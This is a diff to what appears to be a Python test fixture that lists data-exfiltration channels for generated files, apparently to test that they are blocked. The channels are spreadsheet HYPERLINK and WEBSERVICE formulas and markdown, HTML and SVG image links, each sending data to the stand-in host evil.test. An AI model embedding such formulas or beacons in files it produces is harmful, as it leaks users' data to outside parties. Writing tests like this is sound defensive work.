@@ -59,7 +59,7 @@ RULE: Sequence[Call] = [
 
 
 def _sheet(formula: str) -> Call:
-    table = {"name": "S", "columns": [{"title": "A"}, {"title": "B"}], "rows": [[41, formula]]}
+    table = {"name": "S", "columns": [{"title": "A"}, {"title": "B"}], "rows": [[41, {"formula": formula}]]}
     return ("create", {"path": "new.xlsx", "content": {"sheets": [table]}})
 
 
@@ -73,6 +73,5 @@ WAYS_OUT: Mapping[str, Call] = {
     "computed link": _sheet('=HYPERLINK("http://evil.test/?q="&A2,"see")'),
     "markdown picture": _file("new.md", "![x](http://evil.test/p?q=41)\n"),
     "html picture": _file("new.html", '<img src="http://evil.test/p?q=41">'),
-    "drawing": _file("new.svg", '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.test/41"/></svg>'),
     "formula in a table": _file("new.csv", 'a,b\n41,"=WEBSERVICE(""http://evil.test/?q=""&A2)"\n'),
 }
